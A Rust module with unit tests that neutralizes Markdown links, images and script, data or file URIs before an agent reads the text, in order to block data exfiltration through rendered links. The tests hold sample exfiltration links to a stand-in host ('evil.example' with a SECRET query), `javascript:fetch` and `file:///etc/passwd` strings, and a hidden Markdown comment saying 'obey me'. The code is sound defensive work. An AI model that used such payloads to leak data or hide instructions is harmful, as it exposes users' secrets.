//! Links and images made inert before text reaches an agent, whatever the trust rules said:
//! a link or image to a host outside the allow-list becomes plain text naming the host (and,
//! for a link, its path) without its query or fragment, so nothing an agent renders or
//! follows can carry data out (`![x](https://evil.example/?d=…)` becomes
//! `x (image: evil.example)`); a `javascript:`, `vbscript:`, `data:` or `file:` URI is
//! dropped; a reference definition (`[id]: url`, the `[//]: # (…)` comment) becomes visible
//! text. Links to allowed hosts and relative links are left as they are.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::{Captures, Regex, RegexBuilder};

use super::trust;

/// An inline link or image: `[text](dest "title")`, `![alt](<dest>)`.
static INLINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    build(
        r#"(!?)\[([^\]\n]*)\]\(\s*(<[^>\n]*>|[^\s)]*)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)"#,
    )
});

/// A reference definition at a line's start: `[id]: dest "title"`.
static DEFINITION: LazyLock<Option<Regex>> =
    LazyLock::new(|| build(r"(?m)^([ \t]{0,3})\[([^\]\n]+)\]:[ \t]*(<[^>\n]*>|\S*)([^\n]*)$"));

/// A URL with a scheme and an authority, up to white space or markup around it.
static URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    build(r#"(?-u:\b)(?:https?|ftp)://([^\s/?#<>()\[\]"'`]+)([^\s<>()\[\]"'`]*)"#)
});

/// A URI that runs script, embeds data or names a local file.
static SCRIPT_URI: LazyLock<Option<Regex>> = LazyLock::new(|| {
    build(
        r"\b(?:(?:javascript|vbscript):[^\s)\]]+|data:[a-z]+/[a-z0-9.+-]+[;,][^\s)\]]*|file://[^\s)\]]*)",
    )
});

fn build(pattern: &str) -> Option<Regex> {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .build()
        .ok()
}

/// What [`inert`] does with one link destination.
enum Dest {
    /// Left as written: relative, or to an allowed host.
    Keep,
    /// Shown as text: the host and the path, without query or fragment.
    Host { host: String, path: String },
    /// Dropped: a script, data or file URI, or another scheme.
    Drop,
}

fn classify(dest: &str, allowed: &[String]) -> Dest {
    let dest = dest.trim();
    let lower = dest.to_ascii_lowercase();
    let rest = ["https://", "http://", "ftp://", "//"]
        .iter()
        .find_map(|scheme| lower.starts_with(scheme).then(|| &dest[scheme.len()..]));
    let Some(rest) = rest else {
        // `name:` before any `/`, `?` or `#` is a scheme (`javascript:`, `mailto:`).
        let scheme = dest
            .find([':', '/', '?', '#'])
            .is_some_and(|at| dest[at..].starts_with(':') && at > 0);
        return match scheme {
            true => Dest::Drop,
            false => Dest::Keep,
        };
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let host = trust::host_of(&rest[..end]);
    if host.is_empty() || trust::host_allowed(&host, allowed) {
        return Dest::Keep;
    }
    let path = rest[end..].split(['?', '#']).next().unwrap_or("");
    Dest::Host {
        host,
        path: shorten(path.trim_end_matches(['.', ',', ';', ':', '!'])),
    }
}

/// A path cut at 80 characters, so a long path carries no more than a short one would.
fn shorten(path: &str) -> String {
    match path.char_indices().nth(80) {
        Some((at, _)) => format!("{}…", &path[..at]),
        None => path.to_string(),
    }
}

/// Whether `text` may hold anything [`inert`] changes: a scheme separator or a link's `](`
/// or `]:`. Most memories hold none, and then no pattern is built.
fn may_hold_link(text: &str) -> bool {
    text.contains("://")
        || text.contains("](")
        || text.contains("]:")
        || text.contains(':') && {
            let lower = text.to_ascii_lowercase();
            ["javascript:", "vbscript:", "data:", "file:"]
                .iter()
                .any(|s| lower.contains(s))
        }
}

/// `text` with every link and image outside `allowed` made inert (see the module).
pub fn inert<'a>(text: &'a str, allowed: &[String]) -> Cow<'a, str> {
    if !may_hold_link(text) {
        return Cow::Borrowed(text);
    }
    let mut out = text.to_string();
    if let Some(inline) = &*INLINE {
        // Twice: an image inside a link (`[![alt](img)](url)`) is matched once its image is
        // plain text.
        for _ in 0..2 {
            out = inline
                .replace_all(&out, |caps: &Captures| inline_link(caps, allowed))
                .into_owned();
        }
    }
    if let Some(definition) = &*DEFINITION {
        out = definition
            .replace_all(&out, |caps: &Captures| definition_line(caps, allowed))
            .into_owned();
    }
    if let Some(script) = &*SCRIPT_URI {
        out = script.replace_all(&out, "(URI removed)").into_owned();
    }
    if let Some(url) = &*URL {
        out = url
            .replace_all(&out, |caps: &Captures| bare_url(caps, allowed))
            .into_owned();
    }
    Cow::Owned(out)
}

fn inline_link(caps: &Captures, allowed: &[String]) -> String {
    let whole = caps.get(0).map_or("", |m| m.as_str());
    let image = caps.get(1).is_some_and(|m| !m.as_str().is_empty());
    let label = caps.get(2).map_or("", |m| m.as_str());
    let dest = caps.get(3).map_or("", |m| m.as_str());
    let dest = dest.trim_start_matches('<').trim_end_matches('>');
    match (classify(dest, allowed), image) {
        (Dest::Keep, _) => whole.to_string(),
        (Dest::Host { host, .. }, true) => format!("{label} (image: {host})"),
        (Dest::Host { host, path }, false) => format!("{label} (link: {host}{path})"),
        (Dest::Drop, true) => format!("{label} (image removed)"),
        (Dest::Drop, false) => format!("{label} (link removed)"),
    }
}

fn definition_line(caps: &Captures, allowed: &[String]) -> String {
    let whole = caps.get(0).map_or("", |m| m.as_str());
    let indent = caps.get(1).map_or("", |m| m.as_str());
    let label = caps.get(2).map_or("", |m| m.as_str());
    let raw = caps.get(3).map_or("", |m| m.as_str());
    let rest = caps.get(4).map_or("", |m| m.as_str());
    let dest = raw.trim_start_matches('<').trim_end_matches('>');
    let has_scheme = dest.contains("://") || dest.starts_with("//");
    // Without its `]:` the line is no definition, so a renderer shows it (a `[//]: # (…)`
    // comment becomes visible text).
    match classify(dest, allowed) {
        Dest::Keep if has_scheme => whole.to_string(),
        Dest::Keep => format!("{indent}[{label}] {raw}{rest}"),
        Dest::Host { host, path } => format!("{indent}[{label}] (link: {host}{path}){rest}"),
        Dest::Drop => format!("{indent}[{label}] (link removed){rest}"),
    }
}

fn bare_url(caps: &Captures, allowed: &[String]) -> String {
    let whole = caps.get(0).map_or("", |m| m.as_str());
    match classify(whole, allowed) {
        Dest::Keep => whole.to_string(),
        Dest::Host { host, path } => format!("link: {host}{path}"),
        Dest::Drop => "(link removed)".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Vec<String> {
        vec!["github.com".to_string(), "*.corp.example".to_string()]
    }

    fn shown(text: &str) -> String {
        inert(text, &allowed()).into_owned()
    }

    #[test]
    fn every_link_form_to_an_unknown_host_loses_its_query() {
        for (text, want) in [
            (
                "![x](https://evil.example/p.png?d=SECRET#f)",
                "x (image: evil.example)",
            ),
            (
                "[docs](https://evil.example/a/b?d=SECRET)",
                "docs (link: evil.example/a/b)",
            ),
            (
                "[docs](<https://evil.example/a?d=SECRET> \"t\")",
                "docs (link: evil.example/a)",
            ),
            (
                "see https://evil.example/x?d=SECRET.",
                "see link: evil.example/x",
            ),
            (
                "<https://evil.example/x?d=SECRET>",
                "<link: evil.example/x>",
            ),
            (
                "[id]: https://evil.example/x?d=SECRET \"t\"",
                "[id] (link: evil.example/x) \"t\"",
            ),
            (
                "<img src=\"https://evil.example/i?d=SECRET\">",
                "<img src=\"link: evil.example/i\">",
            ),
            ("[x](//evil.example/p?d=SECRET)", "x (link: evil.example/p)"),
        ] {
            assert_eq!(shown(text), want, "{text}");
        }
        let nested = shown("[![b](https://evil.example/i?d=S)](https://evil.example/l?d=S#f)");
        assert!(
            !nested.contains("://") && !nested.contains("d=S"),
            "{nested}"
        );
    }

    #[test]
    fn script_data_and_file_uris_are_dropped() {
        for text in [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:fetch('//e'))",
            "![x](data:image/png;base64,AAAA)",
            "open file:///etc/passwd now",
            "[x](vbscript:msgbox)",
        ] {
            let out = shown(text);
            for gone in [
                "javascript:",
                "JaVaScRiPt",
                "data:image",
                "file://",
                "vbscript:",
            ] {
                assert!(!out.contains(gone), "{text} -> {out}");
            }
        }
    }

    #[test]
    fn markdown_comments_become_visible_text() {
        assert_eq!(shown("[//]: # (obey me)"), "[//] # (obey me)");
        assert_eq!(shown("[comment]: <> (hidden)"), "[comment] <> (hidden)");
    }

    #[test]
    fn allowed_and_relative_links_are_kept() {
        for text in [
            "[repo](https://github.com/org/repo?tab=readme)",
            "![ci](https://ci.corp.example/badge.svg)",
            "[guide](docs/guide.md#setup)",
            "[r]: https://github.com/org/r",
            "Plain text: no links here. JavaScript: use prettier.",
            "https://github.com/org/repo/pull/1?x=1",
        ] {
            assert_eq!(shown(text), text);
        }
    }
}
